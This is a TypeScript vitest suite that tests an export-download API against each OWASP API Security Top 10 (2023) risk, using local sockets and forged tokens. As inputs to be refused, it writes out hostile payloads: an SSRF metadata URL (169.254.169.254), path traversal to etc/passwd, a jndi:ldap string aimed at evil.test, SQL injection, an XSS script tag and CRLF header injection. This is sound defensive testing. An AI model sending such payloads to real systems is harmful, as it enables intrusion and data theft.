import { once } from 'node:events'
import { connect } from 'node:net'

import { afterAll, describe, expect, test } from 'vitest'

import type { ExportRecord } from '../../src/catalogue.ts'
import { codedErrors } from '../../src/error-formats/coded-errors.ts'
import type { ExportStore, OpenObject } from '../../src/ports.ts'
import { createLeakScanner } from '../../src/testing/leak-scanner.ts'
import { createMemoryStore } from '../../src/testing/memory-store.ts'
import { type Answer, type Ask, stable } from '../handler/ask.ts'
import { forge, openFortress } from '../handler/fortress.ts'
import { rows } from '../handler/refusal-table.ts'
import {
  acme,
  content,
  globex,
  ids,
  openScene,
  pathOf,
  principalOf,
  readyRecord,
  type Scene,
} from '../handler/scene.ts'
import { forgeAttacks } from '../verifiers/forge.ts'
import { serve } from '../verifiers/serve.ts'

// The ten risks of the OWASP API Security Top 10 (2023), each with what shows that it does not hold here. Every request
// goes over a socket. Ann is of acme and bob of globex; `foreign` is an export of globex, the others are of acme.

/** Ann's request for acme's ready export, but for what is given. */
const by = (token: string, organization: string, id: string = ids.ready): Partial<Ask> => ({
  path: pathOf(id),
  headers: { authorization: `Bearer ${token}`, 'x-org-name': organization },
})

const bodyOf = ({ status, body }: Answer): string => (status === 200 ? body : String(status))

/** What every answer may carry beside `Date`, `Connection` and `Keep-Alive`, which are the server's. */
const allowed = new Set(
  `Vary X-Content-Type-Options Content-Security-Policy Cross-Origin-Resource-Policy Referrer-Policy X-Frame-Options
  X-Request-Id X-API-Version Deprecation Sunset Link RateLimit-Policy RateLimit Retry-After WWW-Authenticate Allow
  Cache-Control ETag Last-Modified Accept-Ranges X-Accel-Buffering Content-Disposition Content-Encoding Content-Type
  Content-Length Content-Range Repr-Digest`.split(/\s+/),
)
const strangeFields = ({ fields }: Answer): readonly string[] =>
  fields
    .map(([name]) => name)
    .filter((name) => !allowed.has(name) && !['Date', 'Connection', 'Keep-Alive'].includes(name))

/** One answer of every kind: the whole, a part, none, and each refusal that there is. */
async function oneOfEach(request: Partial<Ask> = {}): Promise<readonly Answer[]> {
  const sound = [
    {},
    { method: 'HEAD' },
    { method: 'OPTIONS' },
    { headers: { range: 'bytes=0-3' } },
    { headers: { 'if-none-match': '*' } },
  ]
  const asked = [
    ...sound.map((one) => ({ request: one as Partial<Ask>, changes: {} })),
    ...rows.map(({ request, changes = {} }) => ({ request, changes })),
  ]
  return Promise.all(
    asked.map(async ({ request: one, changes }) => {
      await using scene = await openScene(changes)
      return await scene.ask({ ...request, ...one, headers: { ...request.headers, ...one.headers } })
    }),
  )
}

describe('API1:2023 Broken Object Level Authorization', () => {
  test('a caller reaches the exports of its own organization, and no others', async () => {
    await using scene = await openScene()
    const answers = [
      by('ann', 'acme'),
      by('ann', 'acme', ids.foreign),
      by('ann', 'globex', ids.foreign),
      by('bob', 'globex', ids.foreign),
      by('bob', 'globex'),
      by('bob', 'acme'),
    ].map(async (request) => bodyOf(await scene.ask(request)))
    expect(await Promise.all(answers)).toEqual([content, '404', '403', '{"event":"secret"}\n', '404', '403'])
  })

  test("another organization's export reads like one that is not there, and costs the same calls", async () => {
    await using foreign = await openScene()
    await using missing = await openScene()
    const [one, other] = [
      await foreign.ask(by('ann', 'acme', ids.foreign)),
      await missing.ask(by('ann', 'acme', ids.missing)),
    ]
    expect(stable(one)).toEqual(stable(other))
    expect(foreign.calls).toEqual(missing.calls)
    expect(foreign.calls).not.toContain('get')
  })

  test('a catalogue that forgets to filter leaks nothing, and is reported', async () => {
    const findExport = async (): Promise<ExportRecord> => ({
      ...readyRecord,
      id: ids.foreign,
      tenantId: globex.id,
    })
    await using scene = await openScene({ findExport })
    expect((await scene.ask(by('ann', 'acme', ids.foreign))).status).toBe(404)
    expect(scene.troubles()).toMatchObject([{ port: 'catalogue', code: 'record_mismatch' }])
    expect(scene.calls).not.toContain('get')
  })
})

describe('API2:2023 Broken Authentication', async () => {
  const attacker = await serve({ body: forge.jwks })
  afterAll(() => attacker[Symbol.asyncDispose]())

  test('every forged, foreign, expired or altered token gives 401, and the valid one 200', async () => {
    await using fortress = await openFortress()
    const sendable = forgeAttacks(forge, attacker.url.href).filter(({ spoilt }) => !/[\s\0]/.test(spoilt))
    expect(sendable.length).toBeGreaterThan(60)
    const accepted: string[] = []
    for (const { name, spoilt } of sendable) {
      const answer = await fortress.scene.ask({ headers: { authorization: `Bearer ${spoilt}` } })
      if (answer.status !== 401) accepted.push(name)
    }
    expect(accepted).toEqual([])
    expect((await fortress.verdict(`Bearer ${forge.token()}`)).status).toBe(200)
  }, 20_000)

  test('a token is read only from the Authorization field, and only if it occurs once', async () => {
    await using scene = await openScene()
    const none = { authorization: undefined }
    const answers = await Promise.all([
      scene.ask({ path: `${pathOf(ids.ready)}?access_token=ann`, headers: none }),
      scene.ask({ headers: { ...none, cookie: 'access_token=ann' } }),
      scene.ask({ headers: { ...none, 'x-access-token': 'ann' } }),
      scene.ask({ headers: { authorization: ['Bearer ann', 'Bearer ann'] } }),
    ])
    expect(answers.map(({ status }) => status)).toEqual([401, 401, 401, 401])
  })

  test('a verifier without an answer gives 503: no caller passes', async () => {
    await using scene = await openScene({ verifier: { verify: () => Promise.reject(new Error('no keys')) } })
    const answer = await scene.ask()
    expect([answer.status, answer.field('www-authenticate')]).toEqual([503, undefined])
  })
})

describe('API3:2023 Broken Object Property Level Authorization', () => {
  test('no response has a header field that is not on the list', async () => {
    const answers = await oneOfEach()
    expect(new Set(answers.map(({ status }) => status))).toEqual(
      new Set([200, 204, 206, 304, 400, 401, 403, 404, 405, 410, 412, 416, 429, 500, 502, 503]),
    )
    expect(answers.flatMap(strangeFields)).toEqual([])
  })

  test('other members of the catalogue and the store never reach the client', async () => {
    const scanner = createLeakScanner()
    const record = {
      ...readyRecord,
      storage_location: 's3://secret-bucket/secret-key',
      owner: 'secret-owner',
    }
    await using scene = await openScene({
      findExport: async () => record,
      store: scanner.plant(createMemoryStore({ 'acme/ready': content })),
    })
    const { fields, body } = await scene.ask()
    expect(body).toBe(content)
    expect(JSON.stringify([fields, scene.events])).not.toContain('secret')
    expect(scanner.find([fields.map((pair) => pair.join(': ')), body, scene.events])).toEqual([])
  })
})

describe('API4:2023 Unrestricted Resource Consumption', () => {
  test('requests are counted', async () => {
    await using scene = await openScene({
      limits: { perPrincipal: { capacity: 2, refill: 1, perMs: 60_000 } },
    })
    const answers = [await scene.ask(), await scene.ask(), await scene.ask()]
    expect(answers.map(({ status }) => status)).toEqual([200, 200, 429])
    expect(Number(answers[2]?.field('retry-after'))).toBeGreaterThan(0)
  })

  test('concurrent downloads are counted, and a stalled client holds a bounded part of a large export', async () => {
    const endless = endlessStore(1_073_741_824)
    await using scene = await openScene({ store: endless.store, limits: { concurrent: { perPrincipal: 1 } } })
    const idle = await downloadUnread(scene)
    expect((await scene.ask()).status).toBe(429)
    await expect.poll(() => endless.stalledFor(100), { timeout: 5_000 }).toBe(true)
    expect(endless.given()).toBeLessThan(32 * 1_048_576)
    idle.destroy()
    await scene.over(2)
    expect((await scene.ask({ method: 'HEAD' })).status).toBe(200)
  })

  test('many ranges, or overlapping ranges, are refused', async () => {
    const delivery = { multipleRanges: true }
    await using scene = await openScene({ delivery })
    const nine = Array.from({ length: 9 }, (_, nth) => `${nth * 4}-${nth * 4}`).join()
    await using wide = await openScene({
      delivery,
      store: createMemoryStore({ 'acme/ready': 'x'.repeat(4_000) }),
    })
    const apart = Array.from({ length: 9 }, (_, nth) => `${nth * 400}-${nth * 400}`).join()
    const over = await scene.ask({ headers: { range: 'bytes=0-,0-,0-,0-' } })
    expect((await wide.ask({ headers: { range: `bytes=${apart}` } })).status).toBe(416)
    expect(over.status).toBe(416)
    expect((await scene.ask({ headers: { range: `bytes=${nine}` } })).status).toBe(206)
  })

  test('a request head that is too long never reaches the handler, and a token that is too long never the verifier', async () => {
    await using scene = await openScene()
    expect((await scene.ask({ headers: { 'x-padding': 'x'.repeat(100_000) } })).status).toBe(431)
    expect(scene.calls).toEqual([])
    // Node's own limit is lower, and a host may raise it. Verifiers have one of their own, `maxTokenLength`.
    await using wide = await openScene({ server: { maxHeaderSize: 262_144 } })
    expect((await wide.ask({ headers: { authorization: `Bearer ${'x'.repeat(65_537)}` } })).status).toBe(401)
    expect(wide.calls).toEqual([])
  })

  test('a port that hangs is abandoned and released', async () => {
    const left = Promise.withResolvers<void>()
    await using scene = await openScene({
      delivery: { firstByteMs: 100 },
      findExport: async (_, signal) => {
        signal.addEventListener('abort', () => left.resolve())
        return new Promise(() => undefined)
      },
    })
    expect((await scene.ask()).status).toBe(503)
    await left.promise
  })
})

describe('API5:2023 Broken Function Level Authorization', () => {
  test.each(['POST', 'PUT', 'PATCH', 'DELETE', 'TRACE', 'PROPFIND', 'MKCOL', 'LOCK'])(
    '%s is not allowed',
    async (method) => {
      await using scene = await openScene()
      const answer = await scene.ask({ method })
      expect([answer.status, answer.field('allow')]).toEqual([405, 'GET, HEAD, OPTIONS'])
      expect(scene.calls).toEqual([])
    },
  )

  test('no header field changes the method', async () => {
    await using scene = await openScene()
    const override = (method: string): Record<string, string> => ({
      'x-http-method-override': method,
      'x-http-method': method,
      'x-method-override': method,
    })
    expect((await scene.ask({ method: 'POST', headers: override('GET') })).status).toBe(405)
    expect((await scene.ask({ headers: override('DELETE') })).body).toBe(content)
  })

  test.each<[string, readonly string[], number]>([
    ['none', [], 403],
    ['another', ['exports:list'], 403],
    ['one that begins with it', ['exports:download-all'], 403],
    ['one that it begins with', ['exports'], 403],
    ['it in capitals', ['EXPORTS:DOWNLOAD'], 403],
    ['a wildcard', ['exports:*', '*'], 403],
    ['it', ['exports:download'], 200],
    ['it among others', ['exports:list', 'exports:download'], 200],
  ])('capabilities: %s', async (_, capabilities, status) => {
    await using scene = await openScene({
      verifier: { verify: async () => principalOf('ann', { capabilities }) },
    })
    const seen = await Promise.all(
      ['GET', 'HEAD'].map(async (method) => (await scene.ask({ method })).status),
    )
    expect(seen).toEqual([status, status])
    expect(scene.calls.includes('catalogue')).toBe(status === 200)
  })
})

describe('API6:2023 Unrestricted Access to Sensitive Business Flows', () => {
  test('a whole organization can be rate limited, over all its callers', async () => {
    await using scene = await openScene({ limits: { perTenant: { capacity: 2, refill: 1, perMs: 60_000 } } })
    const answers = [
      await scene.ask(by('ann', 'acme')),
      await scene.ask(by('two', 'acme')),
      await scene.ask(by('ann', 'acme')),
    ]
    expect(answers.map(({ status }) => status)).toEqual([200, 200, 429])
    expect((await scene.ask(by('bob', 'globex', ids.foreign))).status).toBe(200)
  })

  test('nothing is sent without an audit record, and every attempt has one', async () => {
    const audited: string[] = []
    await using scene = await openScene({
      audit: async ({ principal, exportId }) => {
        if (principal?.subject === 'two') throw new Error('the log is full')
        audited.push(`${principal?.subject} ${exportId}`)
      },
    })
    const answers = [
      await scene.ask(by('ann', 'acme')),
      await scene.ask(by('two', 'acme')),
      await scene.ask(by('eve', 'acme')),
    ]
    await scene.over(3)
    expect(answers.map(bodyOf)).toEqual([content, '503', '401'])
    expect(audited).toEqual([`ann ${ids.ready}`])
    expect(scene.ended().map(({ outcome, kind, tenantId }) => [outcome, kind, tenantId])).toEqual([
      ['completed', undefined, acme.id],
      ['refused', 'unavailable', acme.id],
      ['refused', 'token_invalid', undefined],
    ])
  })
})

describe('API7:2023 Server Side Request Forgery', () => {
  test('no token makes the verifier fetch a URL in it', async () => {
    await using attacker = await serve({ body: forge.jwks })
    await using fortress = await openFortress()
    const { href } = attacker.url
    const headers = [{ jku: href }, { x5u: href }, { jwk: forge.rsa.jwk, jku: href }, { kid: href }]
    for (const header of headers) await fortress.verdict(`Bearer ${forge.token({}, header)}`)
    for (const claims of [{ iss: href }, { aud: href }, { jwks_uri: href }])
      await fortress.verdict(`Bearer ${forge.token(claims)}`)
    expect(attacker.requests).toEqual([])
  })

  test.each([
    'http://169.254.169.254/latest',
    '..%2f..%2fetc%2fpasswd',
    's3:secret',
    '%00',
    '*',
    ids.ready.replaceAll('-', ''),
  ])('a malformed id (%s) reaches neither catalogue nor store', async (id) => {
    await using scene = await openScene()
    expect((await scene.ask({ path: pathOf(encodeURIComponent(id)) })).status).toBe(400)
    expect(scene.calls).toEqual(['verifier'])
  })

  test('only the object of the catalogue record is read, whatever the caller sends', async () => {
    const keys: string[] = []
    const memory = createMemoryStore({ 'acme/ready': content })
    const store: ExportStore = {
      ...memory,
      get: (key, ...rest) => (keys.push(key), memory.get(key, ...rest)),
    }
    await using scene = await openScene({ store })
    const path = `${pathOf(ids.ready)}?key=globex%2Fready&bucket=other&url=http:%2F%2F127.0.0.1`
    expect(
      (await scene.ask({ path, headers: { 'x-forwarded-host': 'evil.test', 'x-key': 'globex/ready' } })).body,
    ).toBe(content)
    expect(keys).toEqual(['acme/ready'])
  })
})

describe('API8:2023 Security Misconfiguration', () => {
  test('every response has the fields against sniffing, framing and caching', async () => {
    const answers = await oneOfEach()
    const guarded = answers.map(({ field }) => [
      field('x-content-type-options'),
      field('content-security-policy'),
      field('x-frame-options'),
      field('referrer-policy'),
      field('cross-origin-resource-policy'),
      field('cache-control')?.includes('no-store'),
      field('vary')?.startsWith('X-Org-Name, X-API-Version'),
    ])
    const policy = "default-src 'none'; frame-ancestors 'none'; sandbox"
    expect(guarded).toEqual(
      answers.map(() => ['nosniff', policy, 'DENY', 'no-referrer', 'same-origin', true, true]),
    )
  })

  test('other origins may not read a response', async () => {
    const headers = { origin: 'https://evil.test', 'access-control-request-method': 'GET' }
    const answers = await oneOfEach({ headers })
    expect(answers.flatMap(({ fields }) => fields.filter(([name]) => /^access-control/i.test(name)))).toEqual(
      [],
    )
  })

  test('no response reveals a stack trace, a path or a product', async () => {
    const texts = (await oneOfEach()).map(({ fields, body }) => `${fields.join('\n')}\n${body}`).join('\n')
    expect(texts).not.toMatch(/\bat .+:\d+:\d+|\.ts\b|node_modules|node:|x-powered-by|express|koa|<html/i)
  })

  test.each([
    '${jndi:ldap://evil.test/a}',
    "'; DROP TABLE exports; --",
    '<script>alert(1)</script>',
    '%0d%0aSet-Cookie: a=b',
  ])('a malformed name is neither sent back nor logged: %s', async (text) => {
    for (const name of ['x-api-version', 'x-org-name', 'x-request-id', 'authorization']) {
      await using scene = await openScene()
      const { fields, body } = await scene.ask({ headers: { [name]: text } })
      await scene.over(1)
      expect(JSON.stringify([fields, body, scene.events])).not.toContain(JSON.stringify(text).slice(1, -1))
    }
  })
})

describe('API9:2023 Improper Inventory Management', () => {
  const versions = {
    v1: { errors: codedErrors(), deprecated: new Date('2026-01-01'), sunset: new Date('2026-07-01') },
    v2: { errors: codedErrors() },
  }
  const at =
    (instant: string): (() => number) =>
    () =>
      Date.parse(instant)

  test('a deprecated version is announced, and is unavailable after its sunset', async () => {
    await using before = await openScene({ versions, defaultVersion: 'v2', now: at('2026-06-30') })
    const old = await before.ask({ headers: { 'x-api-version': 'v1' } })
    expect([old.status, old.field('deprecation'), old.field('sunset')]).toEqual([
      200,
      '@1767225600',
      'Wed, 01 Jul 2026 00:00:00 GMT',
    ])
    await using after = await openScene({ versions, defaultVersion: 'v2', now: at('2026-07-01') })
    expect((await after.ask({ headers: { 'x-api-version': 'v1' } })).status).toBe(400)
  })

  test.each(['v0', 'v3', 'V1', 'v1 ', 'v1,v2', '', 'beta', '__proto__', 'constructor'])(
    'there is no version "%s"',
    async (version) => {
      await using scene = await openScene({ versions, defaultVersion: 'v2', now: at('2026-02-01') })
      const { status, field } = await scene.ask({ headers: { 'x-api-version': version } })
      const known = version.trim() === 'v1'
      expect([status, field('x-api-version')]).toEqual(known ? [200, 'v1'] : [400, undefined])
      expect(scene.calls.includes('catalogue')).toBe(known)
    },
  )
})

describe('API10:2023 Unsafe Consumption of APIs', () => {
  const honest = createMemoryStore({ 'acme/ready': content })
  const lying = (lie: (object: OpenObject) => OpenObject): ExportStore => ({
    ...honest,
    get: async (...asked) => {
      const object = await honest.get(...asked)
      return object && lie(object)
    },
  })
  const size = (size: number) => (object: OpenObject) => ({ ...object, info: { ...object.info, size } })
  async function* forever(): AsyncGenerator<Uint8Array> {
    for (;;) yield Buffer.from(content)
  }

  test.each<[string, (object: OpenObject) => OpenObject]>([
    ['no size', size(Number.NaN)],
    ['a negative size', size(-1)],
    ['an endless size', size(Number.POSITIVE_INFINITY)],
    ['no validator', (object) => ({ ...object, info: { ...object.info, validator: '' } })],
  ])('a store that gives %s leads to 502, and none of its bytes is sent', async (_, lie) => {
    await using scene = await openScene({ store: lying(lie) })
    expect((await scene.ask()).status).toBe(502)
  })

  test.each<[string, (object: OpenObject) => OpenObject]>([
    ['ends early', size(content.length + 1)],
    ['goes on too long', size(content.length - 1)],
    ['never ends', (object) => ({ ...object, chunks: forever() })],
  ])('a store that %s never makes a download look complete', async (_, lie) => {
    await using scene = await openScene({
      store: lying(lie),
      delivery: { resume: { attempts: 1, withinMs: 100 } },
    })
    const answer = await scene.ask()
    expect(answer.status === 200 && answer.whole).toBe(false)
  })

  test('an object that differs from the record is never served', async () => {
    for (const object of [{ size: 1 }, { validator: 'other' }, { sha256: 'f'.repeat(64), size: 9 }]) {
      await using scene = await openScene({ findExport: async () => ({ ...readyRecord, object }) })
      expect((await scene.ask()).status).toBe(502)
    }
  })

  test('an identity provider with a malformed answer leads to 503, and authenticates no caller', async () => {
    for (const body of ['<html>', '[]', '{"keys":"many"}', 'x'.repeat(2_000_000)]) {
      await using fortress = await openFortress({ keys: { body } })
      expect((await fortress.verdict(`Bearer ${forge.token()}`)).status).toBe(503)
    }
  })
})

/** Asks, reads the head, and then nothing. */
async function downloadUnread({ port }: Scene): Promise<{ destroy(): void }> {
  const socket = connect(port, '127.0.0.1')
  socket.write(
    `GET ${pathOf(ids.ready)} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ann\r\nX-Org-Name: acme\r\n\r\n`,
  )
  await once(socket, 'data')
  socket.pause()
  return socket
}

/** A store of one large object, made as it is read. */
function endlessStore(size: number): {
  store: ExportStore
  given: () => number
  stalledFor: (ms: number) => boolean
} {
  const chunk = Buffer.alloc(65_536, 'x')
  let given = 0
  let last = 0
  async function* chunks(): AsyncGenerator<Uint8Array> {
    while (given < size) {
      given += chunk.length
      last = performance.now()
      yield chunk
    }
  }
  const info = { size, validator: 'large' }
  return {
    store: { head: async () => info, get: async () => ({ info, chunks: chunks(), close: () => undefined }) },
    given: () => given,
    stalledFor: (ms) => performance.now() - last > ms,
  }
}
